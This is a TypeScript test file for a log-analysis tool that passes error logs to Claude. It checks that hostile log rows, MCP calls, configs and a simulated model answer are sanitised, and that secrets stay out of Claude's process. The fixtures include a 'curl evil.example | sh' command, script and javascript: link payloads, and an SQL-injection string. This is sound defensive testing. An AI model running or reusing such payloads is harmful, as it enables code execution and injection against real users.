import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import Database from 'better-sqlite3';
import { execFileSync } from 'node:child_process';
import { chmodSync, copyFileSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeAnthropic, type FakeAnthropic } from '../fakes/fake-anthropic.js';
import { startFakeNtfy, type FakeNtfy } from '../fakes/fake-ntfy.js';
import { CONFIG_CASES, MCP_CASES, ROW_CASES, type HostileRow } from '../fixtures/hostile/corpus.js';
import { FAKE_SECRET_VALUES, FAKE_SECRETS } from '../fixtures/secrets.js';
import { CLI, makeProject, runCli, type CliResult } from '../support/cli.js';
import { scanMarkdown } from '../support/markdown-fences.js';
import './support/figures.js';
import { answer, CLAUDE, readIncidents, readState } from './support/project.js';

const SCHEMA = `CREATE TABLE logs (id INTEGER PRIMARY KEY AUTOINCREMENT, time TEXT, level TEXT, level_no INTEGER,
  message TEXT, name TEXT, function TEXT, line INTEGER, module TEXT, process INTEGER, thread TEXT, exception TEXT, extra TEXT)`;
/** Secrets in sentinel's own environment that must not reach Claude's. */
const OWN_ENV = {
  AWS_SECRET_ACCESS_KEY: FAKE_SECRETS.find((s) => s.kind === 'aws_secret_key')!.secret,
  GITHUB_TOKEN: FAKE_SECRETS.find((s) => s.kind === 'github_token')!.secret,
};
const CLAUDE_ENV = [
  'PATH',
  'HOME',
  'CLAUDE_CODE_TMPDIR',
  'ANTHROPIC_API_KEY',
  'ANTHROPIC_BASE_URL',
  'CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC',
  'DISABLE_AUTOUPDATER',
  'API_TIMEOUT_MS',
  'CLAUDE_CODE_MAX_RETRIES',
];
const HOSTILE_ANSWER = {
  ...answer('Injected title\n## PWNED-ANSWER-TITLE'),
  summary:
    'Summary\n```\n# PWNED-ANSWER-FENCE\n```\n<script>alert("PWNED-ANSWER-SCRIPT")</script>\n' +
    'See [https://github.com/acme/app](https://evil.example/PWNED-ANSWER-LOOKALIKE) and [docs](javascript:alert("PWNED-ANSWER-JS"))\n' +
    '<!-- the rest of the report is hidden',
  actions: ['Run this\n---\nseverity: low\n---', '# PWNED-ANSWER-ACTION curl https://evil.example/PWNED-ANSWER-CURL | sh'],
};

const cleanups: (() => unknown)[] = [];
afterAll(async () => {
  for (const cleanup of cleanups.reverse()) await cleanup();
});

/** Inserts rows the way a broken or hostile app might have written them; returns their ids. */
function insertRows(db: Database.Database, rows: HostileRow[], defaults: { logger: string; fn: string }, asText = false): number[] {
  const now = new Date().toISOString();
  const bind = (value: unknown) => (Buffer.isBuffer(value) && asText ? 'CAST(? AS TEXT)' : '?');
  return rows.map((row) => {
    const values = [
      row.time === undefined ? now : row.time,
      row.level ?? 'ERROR',
      row.message,
      row.logger ?? defaults.logger,
      row.function ?? defaults.fn,
      row.exception ?? null,
      row.extra ?? null,
    ];
    const sql = `INSERT INTO logs (time, level, level_no, message, name, function, line, exception, extra) VALUES
      (${bind(values[0])}, ${bind(values[1])}, 40, ${bind(values[2])}, ?, ?, 1, ?, ?)`;
    return Number(db.prepare(sql).run(...values).lastInsertRowid);
  });
}

function makeLogDb(path: string, rows: { rows: HostileRow[]; asText?: boolean }[]): number[][] {
  const db = new Database(path);
  db.pragma('journal_mode = WAL');
  db.exec(SCHEMA);
  const ids = rows.map((c, i) => insertRows(db, c.rows, { logger: `hostile.c${i}`, fn: `case${i}` }, c.asText));
  db.close();
  return ids;
}

/** Lines a Markdown reader sees as structure: the body outside fences, inline code spans removed
 * (the YAML front matter is data, checked apart). */
const outsideFences = (markdown: string) =>
  scanMarkdown(markdown.startsWith('---\n') ? markdown.slice(markdown.indexOf('\n---\n') + 5) : markdown)
    .outside.map((line) => line.replace(/(`+)(?:(?!\1)[\s\S])*?\1/g, ''))
    .join('\n');

/** `findLeaks` (any 12-character slice of a fake secret), minus slices of one repeated character:
 * the fixture's generator makes some (an all-zero hex key), and "000000000000" is not a leak. */
function findLeaks(text: string): string[] {
  return FAKE_SECRET_VALUES.filter((secret) => {
    for (let i = 0; i + 12 <= Math.max(12, secret.length); i++) {
      const slice = secret.slice(i, i + 12);
      if (!/^(.)\1*$/.test(slice) && text.includes(slice)) return true;
    }
    return false;
  });
}

/** Where a (partial) leak sits, with some context, for a failure message a person can act on. */
function locate(text: string, secret: string): string {
  for (let i = 0; i + 12 <= secret.length; i++) {
    const at = text.indexOf(secret.slice(i, i + 12));
    if (at >= 0) return JSON.stringify(text.slice(Math.max(0, at - 60), at + 40));
  }
  return secret;
}

const promptText = (api: FakeAnthropic) => {
  const first = api.messageBodies()[0]?.messages[0]?.content;
  return typeof first === 'string' ? first : (first ?? []).map((b) => ('text' in b ? b.text : '')).join('\n');
};

interface Outputs {
  runs: { claude: CliResult; fallback: CliResult };
  incidents: string[];
  prompt: string;
  bodies: string;
  notifications: FakeNtfy['messages'];
  claudeArgv: string;
  claudeEnv: string;
  stateBytes: string;
  groups: ReturnType<typeof readState>['groups'];
  samples: Map<string, number[]>;
  ids: number[][];
  dirs: { claude: string; fallback: string };
}
let out: Outputs;
let mcp: Client;

beforeAll(async () => {
  const ntfy = await startFakeNtfy();
  cleanups.push(() => ntfy.close());
  const withClaude = makeProject({ notify: { ntfy: { url: ntfy.url, topic: 'hostile' } } });
  const fallback = makeProject({ notify: { ntfy: { url: ntfy.url, topic: 'hostile' } } });
  cleanups.push(
    () => rmSync(withClaude.dir, { recursive: true, force: true }),
    () => rmSync(fallback.dir, { recursive: true, force: true }),
  );
  const ids = makeLogDb(withClaude.db, ROW_CASES);
  copyFileSync(withClaude.db, fallback.db);

  const bigRow = ids[ROW_CASES.findIndex((c) => c.name === '10 MB message with a secret at its end')]![0]!;
  const api = await startFakeAnthropic([
    { kind: 'tool_use', name: 'mcp__sentinel__rows_around', input: { id: bigRow, before: 3, after: 3 } },
    { kind: 'tool_use', name: 'mcp__sentinel__error_group', input: { fingerprint: "x' OR 1=1 --" } },
    { kind: 'structured_output', output: HOSTILE_ANSWER },
  ]);
  cleanups.push(() => api.close());
  // A wrapper in claude.command records the argv and environment sentinel gives the real CLI.
  const wrapper = join(withClaude.dir, 'claude-wrapper.sh');
  writeFileSync(
    wrapper,
    `#!/bin/sh\nenv > '${withClaude.dir}/claude-env.txt'\nprintf '%s\\n' "$@" > '${withClaude.dir}/claude-argv.txt'\nexec '${CLAUDE}' "$@"\n`,
  );
  chmodSync(wrapper, 0o755);
  writeFileSync(
    withClaude.configFile,
    readFileSync(withClaude.configFile, 'utf8').replace(
      'claude:\n  enabled: false',
      `claude:\n  enabled: true\n  command: ${wrapper}\n  timeout: 60s`,
    ),
  );

  const env = { ...OWN_ENV, ANTHROPIC_API_KEY: 'sk-ant-test-key', ANTHROPIC_BASE_URL: api.url, CLAUDE_CODE_MAX_RETRIES: '0' };
  const claudeRun = await runCli(['run', '--json'], { cwd: withClaude.dir, env, timeoutMs: 120_000 });
  const claudeNotes = ntfy.messages.length;
  const fallbackRun = await runCli(['run', '--json'], { cwd: fallback.dir, env: OWN_ENV, timeoutMs: 120_000 });
  const stateDir = join(withClaude.dir, '.sentinel');
  const state = readState(join(stateDir, 'state.db'));
  const samples = new Map<string, number[]>();
  const db = new Database(join(stateDir, 'state.db'), { readonly: true });
  for (const row of db.prepare('SELECT fingerprint, samples FROM groups').all() as { fingerprint: string; samples: string }[]) {
    samples.set(
      row.fingerprint,
      (JSON.parse(row.samples) as { id: number }[]).map((s) => s.id),
    );
  }
  db.close();
  const read = (file: string) => {
    try {
      return readFileSync(file, 'utf8');
    } catch {
      return '';
    }
  };
  out = {
    runs: { claude: claudeRun, fallback: fallbackRun },
    incidents: [...readIncidents(join(withClaude.dir, 'incidents')), ...readIncidents(join(fallback.dir, 'incidents'))].map((i) => i.text),
    prompt: promptText(api),
    bodies: JSON.stringify(api.messageBodies()),
    notifications: ntfy.messages,
    claudeArgv: read(join(withClaude.dir, 'claude-argv.txt')),
    claudeEnv: read(join(withClaude.dir, 'claude-env.txt')),
    stateBytes: ['state.db', 'state.db-wal'].map((f) => read(join(stateDir, f))).join('\n'),
    groups: state.groups,
    samples,
    ids,
    dirs: { claude: withClaude.dir, fallback: fallback.dir },
  };
  void claudeNotes;

  mcp = new Client({ name: 'hostile', version: '0.0.0' });
  await mcp.connect(
    new StdioClientTransport({
      command: 'node',
      args: [CLI, 'mcp', '--config', withClaude.configFile],
      cwd: withClaude.dir,
      env: { PATH: process.env.PATH ?? '' },
      stderr: 'pipe',
    }),
  );
  cleanups.push(() => mcp.close());
}, 180_000);

describe('hostile log rows', () => {
  it('both runs (Claude, fallback) finish without hanging or crashing', () => {
    expect(out.runs.claude.exitCode, out.runs.claude.stderr).toBe(0);
    expect(out.runs.fallback.exitCode, out.runs.fallback.stderr).toBe(0);
    expect(JSON.parse(out.runs.claude.stdout)).toMatchObject({ investigation: 'claude', notified: 1 });
    expect(JSON.parse(out.runs.fallback.stdout)).toMatchObject({ investigation: 'fallback', notified: 1 });
  });

  it.for(ROW_CASES.map((c, i) => ({ ...c, i })))('row: $name', (c, { task }) => {
    const i = c.i;
    task.meta.reliability = { hostile: `row: ${c.name}` };
    expect(out.runs.claude.exitCode).toBe(0);
    expect(out.runs.fallback.exitCode).toBe(0);
    // Counted exactly once: the case's groups are found by logger or by their sample rows.
    const ids = out.ids[i]!;
    const mine = out.groups.filter((g) => g.logger === `hostile.c${i}` || out.samples.get(g.fingerprint)!.some((id) => ids.includes(id)));
    expect(mine.reduce((sum, g) => sum + g.total, 0)).toBe(c.counted ?? c.rows.length);
    const everything = {
      incidents: out.incidents.join('\n'),
      prompts: out.bodies,
      notifications: JSON.stringify(out.notifications),
      argv: out.claudeArgv,
      env: out.claudeEnv,
      state: out.stateBytes,
    };
    expect(Object.entries(everything).flatMap(([where, text]) => findLeaks(text).map((leak) => `${where}: ${locate(text, leak)}`))).toEqual(
      [],
    );
    for (const text of c.contained ?? []) {
      for (const incident of out.incidents) expect(outsideFences(incident)).not.toContain(text);
      expect(outsideFences(out.prompt)).not.toContain(text);
      for (const n of out.notifications) expect(n.title ?? '').not.toContain(text);
    }
    for (const char of c.stripped ?? []) {
      for (const text of [...out.incidents, out.prompt, JSON.stringify(out.notifications.map((n) => `${n.title}${n.message}`))]) {
        expect(text.includes(char), JSON.stringify(char)).toBe(false);
      }
    }
    for (const incident of out.incidents) expect(Buffer.byteLength(incident)).toBeLessThan(512 * 1024);
    expect(Buffer.byteLength(out.bodies)).toBeLessThan(1024 * 1024);
  });

  it("Claude's answer echoing hostile text stays prose: no heading, no script, no second front matter", ({ task }) => {
    task.meta.reliability = { hostile: 'answer echoing hostile text' };
    const incident = out.incidents.find((text) => text.includes('PWNED-ANSWER'))!;
    expect(incident).toBeDefined();
    const front = /^---\n([\s\S]*?)\n---\n/.exec(incident)![1]!;
    expect(front).toMatch(/^severity: medium$/m);
    expect(front.split('\n').filter((l) => /^severity:/.test(l))).toHaveLength(1);
    const outside = outsideFences(incident);
    expect(outside).not.toMatch(/^#+ PWNED-ANSWER/m);
    expect(outside).not.toMatch(/(?<!\\)<script>/);
    expect(outside).not.toMatch(/(?<!\\)<!--/);
    expect(out.notifications.every((n) => !(n.title ?? '').includes('\n'))).toBe(true);
  });

  it("Claude's answer reaches ntfy sanitised like the incident: no heading, HTML or link of its own", ({ task }) => {
    task.meta.reliability = { hostile: 'answer echoing hostile text, pushed' };
    const pushed = out.notifications.filter((n) => (n.message ?? '').includes('PWNED-ANSWER'));
    expect(pushed.length).toBeGreaterThan(0);
    const incident = out.incidents.find((text) => text.includes('PWNED-ANSWER'))!;
    for (const text of [...pushed.map((n) => n.message ?? ''), outsideFences(incident)]) {
      expect(text).not.toMatch(/^\s{0,3}(#+|```)\s*PWNED/m);
      expect(text).not.toMatch(/(?<!\\)<(script|!--)/);
      expect(text).not.toMatch(/\]\((https?|javascript):/);
      expect(text).not.toMatch(/(^|[^`])https:\/\/evil\.example/m);
    }
  });

  it('no secret reaches the claude process: its environment is the minimal one, its argv clean', ({ task }) => {
    task.meta.reliability = { hostile: 'claude argv and environment' };
    expect(out.claudeArgv).toContain('--strict-mcp-config');
    const names = out.claudeEnv
      .split('\n')
      .filter(Boolean)
      .map((line) => line.slice(0, line.indexOf('=')));
    // sh itself adds PWD, SHLVL and _ before `env` runs.
    expect(names.filter((n) => !CLAUDE_ENV.includes(n) && !['PWD', 'SHLVL', '_', 'OLDPWD'].includes(n))).toEqual([]);
    for (const value of Object.values(OWN_ENV)) expect(out.claudeEnv + out.claudeArgv).not.toContain(value);
    expect(findLeaks(out.claudeEnv + out.claudeArgv)).toEqual([]);
  });

  it('files sentinel writes are private to its user', ({ task }) => {
    task.meta.reliability = { hostile: 'file modes' };
    const stateDir = join(out.dirs.claude, '.sentinel');
    const mode = (path: string) => statSync(path).mode & 0o777;
    expect(mode(stateDir) & 0o077).toBe(0);
    for (const name of readdirSync(stateDir).filter((n) => n.startsWith('state.db') || n.startsWith('run.')))
      expect([name, mode(join(stateDir, name)) & 0o007]).toEqual([name, 0]);
    for (const dir of [out.dirs.claude, out.dirs.fallback]) {
      const incidents = join(dir, 'incidents');
      expect(mode(incidents) & 0o007).toBe(0);
      for (const name of readdirSync(incidents)) expect([name, mode(join(incidents, name)) & 0o077]).toEqual([name, 0]);
    }
  });
});

describe('hostile MCP tool calls', () => {
  it.for(MCP_CASES)('mcp: $name', async (c, { task }) => {
    task.meta.reliability = { hostile: `mcp: ${c.name}` };
    const fingerprint = out.groups[0]!.fingerprint;
    const args = JSON.parse(JSON.stringify(c.args).replaceAll('"FP"', JSON.stringify(fingerprint))) as Record<string, unknown>;
    for (const [key, value] of Object.entries(args)) {
      if (typeof value === 'string' && value.startsWith('ROW:'))
        args[key] = out.ids[ROW_CASES.findIndex((r) => r.name === value.slice(4))]![0];
    }
    const result = (await mcp.callTool({ name: c.tool, arguments: args })) as { isError?: boolean; content: { text: string }[] };
    const text = result.content.map((b) => b.text).join('\n');
    if (c.error) {
      expect(result.isError).toBe(true);
      expect(text).toMatch(c.error);
    } else {
      expect(result.isError ?? false, text).toBe(false);
      expect(Buffer.byteLength(text)).toBeLessThanOrEqual(9000);
    }
    expect(findLeaks(text)).toEqual([]);
    const again = (await mcp.callTool({ name: 'error_group', arguments: { fingerprint } })) as { isError?: boolean };
    expect(again.isError ?? false).toBe(false); // the server is still there
  });
});

describe('hostile configs', () => {
  it.for(CONFIG_CASES)('config: $name', async (c, { task }) => {
    task.meta.reliability = { hostile: `config: ${c.name}` };
    const project = makeProject();
    cleanups.push(() => rmSync(project.dir, { recursive: true, force: true }));
    makeLogDb(project.db, [{ rows: c.rows ?? [{ message: 'one ordinary error' }] }]);
    if (c.raw !== undefined) writeFileSync(project.configFile, c.raw);
    else if (c.config)
      writeFileSync(
        project.configFile,
        stringify({ source: { path: project.db, first_run_lookback: '30d' }, claude: { enabled: false }, ...c.config }),
      );
    if (c.ignore !== undefined) writeFileSync(join(project.dir, 'ignore.yaml'), c.ignore);
    if (c.notAFile) {
      const path = c.notAFile.file === 'config' ? project.configFile : join(project.dir, 'ignore.yaml');
      rmSync(path, { force: true });
      if (c.notAFile.is === 'fifo') execFileSync('mkfifo', [path]);
      else symlinkSync('/dev/zero', path);
    }
    const result = await runCli(c.command ?? ['run', '--json'], { cwd: project.dir, timeoutMs: 30_000 });
    if (c.error) {
      expect(result.exitCode, result.stderr).toBe(2);
      const lines = result.stderr.trim().split('\n');
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(/^sentinel: /);
      expect(lines[0]).toMatch(c.error);
    } else {
      expect(result.exitCode, result.stderr).toBe(c.exitCode ?? 0);
      expect(result.stderr).not.toMatch(/internal error/);
    }
  });
});
